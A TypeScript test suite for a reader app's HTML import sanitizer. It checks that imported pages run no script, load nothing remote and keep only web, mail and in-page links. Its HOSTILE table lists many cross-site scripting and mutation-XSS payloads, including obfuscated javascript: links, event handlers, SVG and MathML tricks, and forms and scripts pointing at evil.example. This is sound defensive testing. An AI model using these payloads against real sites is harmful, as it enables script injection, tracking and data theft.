// Hostile pages: whatever a file contains, the imported markup runs nothing, loads nothing and
// links only to the web, mail or its own sections.
import * as jsdom from 'jsdom';
import { describe, expect, it } from 'vitest';
import { importFile } from '../../renderer/import/index';
import { policyViolations, sanitizeImportedHtml } from '../../renderer/import/sanitize';
import { env, utf8 } from '../helpers/import';

const FILLER =
  '<p>The reading room opens at nine on weekdays and at ten on Saturdays, and the stacks are open to every member with a card.</p>';

const HOSTILE: Record<string, string> = {
  'plain script': '<script>globalThis.pwned = 1</script>',
  'uppercase script': '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
  'split script': '<scr<script>ipt>globalThis.pwned = 1</scr</script>ipt>',
  'script in svg': '<svg><script>globalThis.pwned = 1</script></svg>',
  'script in math': '<math><mtext><script>globalThis.pwned = 1</script></mtext></math>',
  'script in noscript': '<noscript><script>globalThis.pwned = 1</script></noscript>',
  'noscript mXSS':
    '<noscript><p title="</noscript><img src=x onerror=globalThis.pwned=1>"></noscript>',
  'event handlers':
    '<p onclick="x()" onmouseover="x()" onfocus="x()" tabindex="0">a</p><img src="data:image/png;base64,iVBORw0KGgo=" onerror="x()" onload="x()"><body onload="x()"><div onpointerenter="x()" ONWHEEL="x()">b</div><details open ontoggle="x()">c</details><video><source onerror="x()"></video>',
  'javascript links':
    '<a href="javascript:globalThis.pwned=1">a</a><a href="  JaVaScRiPt:globalThis.pwned=1">b</a><a href="java&#x09;script:x()">c</a><a href="java\nscript:x()">d</a><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;x()">e</a><a href="&#x6A;avascript&colon;x()">f</a>',
  'vbscript and data links':
    '<a href="vbscript:msgbox(1)">a</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">b</a><a href=" data:text/html,<script>x()</script>">c</a><img src="data:text/html,<script>x()</script>"><img src="data:image/svg+xml;base64,PHN2Zz4=">',
  'svg with onload and use':
    '<svg onload="x()"><use href="https://evil.example/sprite.svg#a"></use><use xlink:href="data:image/svg+xml,<svg onload=x()>"></use><image href="https://evil.example/i.png"></image><a href="javascript:x()"><text>t</text></a></svg>',
  'mathml actions':
    '<math><maction actiontype="statusline" href="javascript:x()">m</maction><mi href="javascript:x()">n</mi></math>',
  'css in style attributes and elements':
    '<p style="background:url(https://evil.example/bg.png); width: expression(alert(1))">s</p><style>@import url(https://evil.example/s.css); p { background: url(https://evil.example/p.png) }</style><div style="behavior:url(x.htc)">t</div>',
  'meta refresh and base':
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><a href="relative/page">rel</a>',
  'frames, objects and embeds':
    '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>x()</script>"></iframe><frameset><frame src="https://evil.example/"></frameset><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><applet code="X.class"></applet><portal src="https://evil.example/"></portal>',
  'forms and formaction':
    '<form action="https://evil.example/steal"><input name="q" formaction="https://evil.example/"><button formaction="javascript:x()">go</button><select><option>a</option></select><textarea>t</textarea></form><isindex action="javascript:x()">',
  'remote and responsive images':
    '<img src="https://evil.example/track.gif"><img src="//evil.example/proto.gif"><img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x"><picture><source srcset="https://evil.example/p.webp" type="image/webp"><img src="https://evil.example/p.jpg" alt="p"></picture><img src="http://evil.example/plain.gif" lowsrc="https://evil.example/low.gif"><input type="image" src="https://evil.example/btn.png"><table background="https://evil.example/bg.gif"><tr><td background="https://evil.example/td.gif">c</td></tr></table><video poster="https://evil.example/poster.jpg"></video><a href="https://example.org/" ping="https://evil.example/ping">ping</a>',
  'link elements':
    '<link rel="stylesheet" href="https://evil.example/s.css"><link rel="preload" href="https://evil.example/p.js" as="script"><link rel="prefetch" href="https://evil.example/next"><link rel="dns-prefetch" href="//evil.example"><link rel="import" href="https://evil.example/i.html">',
  'audio, video, canvas, template':
    '<audio src="https://evil.example/a.mp3" autoplay></audio><video src="https://evil.example/v.mp4" autoplay></video><canvas></canvas><template><img src="https://evil.example/t.png" onerror="x()"></template>',
  'comments and CDATA tricks':
    '<!-- <img src=x onerror=x()> --><!--><img src=x onerror=globalThis.pwned=1>--><![CDATA[<img src=x onerror=x()>]]><p><!--[if IE]><script>x()</script><![endif]--></p><!-- --!><img src=x onerror=globalThis.pwned=1> -->',
  'mXSS classics':
    '<svg></p><style><a id="</style><img src=1 onerror=globalThis.pwned=1>"></svg><math><mi><table><mglyph><style><img src=x onerror=globalThis.pwned=1></style></mglyph></table></mi></math><form><math><mtext></form><form><mglyph><style></math><img src onerror=globalThis.pwned=1>',
  'attribute and id clobbering':
    '<a id="cookie" name="location" href="#top">t</a><img name="getElementById" src="data:image/png;base64,iVBORw0KGgo="><p id="top" class="evil" data-x="1" aria-label="l" dir="rtl">p</p>',
  'object-embedded urls':
    '<a href="https://example.org/ok">ok</a><a href="mailto:editor@example.org">mail</a><a href="ftp://evil.example/file">ftp</a><a href="file:///etc/passwd">file</a><a href="app://reader/#/settings">app</a>',
};

const URL_ATTRS = [
  'href',
  'src',
  'srcset',
  'action',
  'formaction',
  'poster',
  'background',
  'data',
  'xlink:href',
  'ping',
  'lowsrc',
];

function assertSafe(html: string) {
  expect(html).not.toMatch(/<script/i);
  const body = new JSDOM(`<body>${html}</body>`).window.document.body;
  expect(policyViolations(body)).toEqual([]);
  for (const el of Array.from(body.querySelectorAll('*'))) {
    for (const attr of Array.from(el.attributes)) {
      expect(attr.name.toLowerCase().startsWith('on'), `${attr.name} on <${el.localName}>`).toBe(
        false,
      );
      expect(attr.name, `style on <${el.localName}>`).not.toBe('style');
      if (!URL_ATTRS.includes(attr.name)) continue;
      if (el.localName === 'a' && attr.name === 'href') {
        expect(attr.value).toMatch(/^(?:https?:\/\/|mailto:|#imp-)/);
      } else {
        expect(`${el.localName} ${attr.name}=${attr.value}`).toMatch(
          /^img src=data:image\/(png|jpeg|gif|webp);base64,/,
        );
      }
    }
    expect([
      'script',
      'style',
      'iframe',
      'frame',
      'object',
      'embed',
      'svg',
      'math',
      'form',
      'input',
      'link',
      'meta',
      'base',
      'video',
      'audio',
      'source',
      'template',
      'noscript',
      'canvas',
    ]).not.toContain(el.localName);
  }
}

// jsdom 27's resource loader; the installed @types/jsdom describes a later API without it.
const { JSDOM } = jsdom;
const { ResourceLoader } = jsdom as unknown as {
  ResourceLoader: new () => { fetch(url: string, options: object): unknown };
};

class RecordingLoader extends ResourceLoader {
  readonly requested: string[] = [];
  override fetch(url: string) {
    this.requested.push(url);
    return null;
  }
}

/** Puts markup into a live page whose loader records every request; returns what it saw. */
async function placeInPage(html: string) {
  const loader = new RecordingLoader();
  const dom = new JSDOM('<!DOCTYPE html><html><head></head><body><main></main></body></html>', {
    url: 'https://reader.invalid/',
    resources: loader as never,
    pretendToBeVisual: true,
  });
  const win = dom.window as unknown as { pwned?: number };
  dom.window.document.querySelector('main')!.innerHTML = html;
  // Let any loads or timers a surviving element would start have their turn.
  await new Promise((resolve) => setTimeout(resolve, 20));
  const result = { requested: loader.requested, pwned: win.pwned };
  dom.window.close();
  return result;
}

describe('hostile input', () => {
  it('the page probe itself notices a request (so an empty record means something)', async () => {
    const seen = await placeInPage(
      '<link rel="stylesheet" href="https://evil.example/s.css"><iframe src="https://evil.example/f"></iframe>',
    );
    expect(seen.requested.length).toBeGreaterThan(0);
  });

  for (const [name, payload] of Object.entries(HOSTILE)) {
    it(`neutralises ${name}`, async () => {
      const page = `<!DOCTYPE html><html><head><title>Reading room hours</title></head><body><article><h1>Reading room hours</h1>${FILLER}${FILLER}${payload}${FILLER}</article></body></html>`;
      const result = await importFile({ name: 'hostile.html', bytes: utf8(page) }, env);
      expect(result.ok).toBe(true);
      if (!result.ok) return;
      assertSafe(result.document.html);
      const seen = await placeInPage(result.document.html);
      expect(seen.requested).toEqual([]);
      expect(seen.pwned).toBeUndefined();
      expect((globalThis as { pwned?: number }).pwned).toBeUndefined();

      // The sanitizer alone holds too, without Readability choosing what to keep.
      const direct = sanitizeImportedHtml(payload, env);
      assertSafe(direct);
      expect((await placeInPage(direct)).requested).toEqual([]);
    });
  }

  it('keeps web and mail links, marks web links for the confirm-and-open path, drops the rest', () => {
    const html = sanitizeImportedHtml(HOSTILE['object-embedded urls']!, env);
    expect(html).toBe(
      '<a href="https://example.org/ok" rel="noopener noreferrer" data-external="true">ok</a><a href="mailto:editor@example.org" rel="noopener noreferrer">mail</a><a>ftp</a><a>file</a><a>app</a>',
    );
  });

  it('turns remote images into placeholders that name the address as text', () => {
    const html = sanitizeImportedHtml(
      '<img src="https://evil.example/track.gif"><picture><source srcset="https://evil.example/p.webp"><img src="https://evil.example/p.jpg"></picture>',
      env,
    );
    expect(html).toBe(
      '<span class="imported-image-placeholder">Image not imported: https://evil.example/track.gif</span><span class="imported-image-placeholder">Image not imported: https://evil.example/p.jpg</span>',
    );
  });

  it('prefixes ids and the in-page links that point at them, and moves an h1 below the title', () => {
    const html = sanitizeImportedHtml(
      '<h1 id="top">Part one</h1><p><a href="#top">back</a></p>',
      env,
    );
    expect(html).toBe('<h2 id="imp-top">Part one</h2><p><a href="#imp-top">back</a></p>');
  });

  it('drops an inline image larger than the limit and keeps a small one', () => {
    const small = `data:image/png;base64,${'A'.repeat(400)}`;
    const big = `data:image/png;base64,${'A'.repeat(800 * 1024)}`;
    const html = sanitizeImportedHtml(
      `<img src="${small}" alt="s"><img src="${big}" alt="b">`,
      env,
    );
    expect(html).toContain(`<img src="${small}" alt="s">`);
    expect(html).toContain('Image not imported: an embedded image larger than the import limit');
    expect(html).not.toContain(big.slice(0, 60) + 'AAAA"');
  });

  it('refuses a page of nothing but hostile markup as having no content', async () => {
    const page = `<html><body>${Object.values(HOSTILE).slice(0, 6).join('')}</body></html>`;
    const result = await importFile({ name: 'only-scripts.html', bytes: utf8(page) }, env);
    expect(result).toMatchObject({ ok: false, code: 'no-content', fileName: 'only-scripts.html' });
  });

  it('reads broken encodings without letting bytes sneak markup through', async () => {
    const bytes = Uint8Array.from([
      ...utf8('<html><body><article><h1>Bytes</h1>'),
      ...utf8(FILLER),
      0x3c,
      0xc0,
      0x73,
      0x63,
      0x72,
      0x69,
      0x70,
      0x74,
      0x3e, // "<" + stray byte + "script>"
      ...utf8(FILLER),
      ...utf8('</article></body></html>'),
    ]);
    const result = await importFile({ name: 'bytes.html', bytes }, env);
    if (result.ok) assertSafe(result.document.html);
    else expect(result.code).toBe('encoding');
  });
});
